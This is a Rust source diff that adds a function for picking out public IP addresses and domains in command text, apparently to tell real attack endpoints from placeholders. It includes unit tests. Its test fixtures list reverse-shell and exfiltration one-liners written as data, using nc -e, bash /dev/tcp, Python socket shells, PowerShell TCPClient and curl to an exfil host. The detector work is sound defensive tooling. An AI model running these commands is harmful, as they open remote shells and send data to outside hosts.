@@ -237,12 +237,80 @@ fn purpose_affixes(purpose: &str, name: &str) -> bool {
     words.any(|w| name.starts_with(w) || name.ends_with(w))
 }
 
+/// The first public endpoint a command names: an IPv4 address outside loopback, private and
+/// link-local ranges, or a domain under a known public suffix. Placeholders (`<attacker-ip>`,
+/// `$LHOST`, `ATTACKER`), lab addresses and names like `os.dup2` reach no one. Documentation
+/// addresses and domains (`203.0.113.7`, `exfil.example.com`) count: in a sample they stand for
+/// a real endpoint.
+pub fn public_endpoint(text: &str) -> Option<&str> {
+    let mut rest = text;
+    while !rest.is_empty() {
+        let start = rest
+            .find(|c: char| c.is_ascii_alphanumeric())
+            .unwrap_or(rest.len());
+        rest = &rest[start..];
+        let end = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')))
+            .unwrap_or(rest.len());
+        let token = rest[..end].trim_end_matches(['.', '-']);
+        // `subprocess.call(`, `s.connect(`: a method call, not a host.
+        let called = rest[end..].starts_with('(');
+        rest = &rest[end..];
+        // `socket.AF_INET`: an identifier, not a host (`.af`).
+        if token.contains('.') && !token.contains('_') && !called && is_public_host(token) {
+            return Some(token);
+        }
+    }
+    None
+}
+
+fn is_public_host(token: &str) -> bool {
+    if let Ok(ip) = token.parse::<std::net::Ipv4Addr>() {
+        return !(ip.is_loopback()
+            || ip.is_private()
+            || ip.is_link_local()
+            || ip.is_unspecified()
+            || ip.is_broadcast());
+    }
+    if token.chars().all(|c| c.is_ascii_digit() || c == '.') {
+        return false;
+    }
+    let lower = token.to_ascii_lowercase();
+    let known_suffix = psl::suffix(lower.as_bytes()).is_some_and(|s| s.is_known());
+    known_suffix && psl::domain_str(&lower).is_some()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
     fn names(url: &str) -> Vec<String> {
         RemoteSource::parse(url).unwrap().names
+    }
+
+    #[test]
+    fn public_endpoints_are_told_from_placeholders_and_code() {
+        for text in [
+            "nc 45.33.32.156 4444 -e /bin/bash",
+            "bash -i >& /dev/tcp/evil-c2.net/4444 0>&1",
+            "ncat shell.attacker.io 443",
+            "s.connect((\"198.51.100.9\", 9001))",
+            "curl https://exfil.example.com/x",
+        ] {
+            assert!(public_endpoint(text).is_some(), "{text}");
+        }
+        for text in [
+            "nc <attacker-ip> 4444 -e /bin/bash",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "nc -lvnp 4444 -e /bin/bash",
+            "s.connect((\"<attacker-ip>\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])",
+            "nc -e /bin/sh attacker.example 9001",
+            "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
+            "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"<attacker-ip>\",4444))",
+            "New-Object System.Net.Sockets.TCPClient('$LHOST',4444)",
+        ] {
+            assert_eq!(public_endpoint(text), None, "{text}");
+        }
     }
 
     #[test]
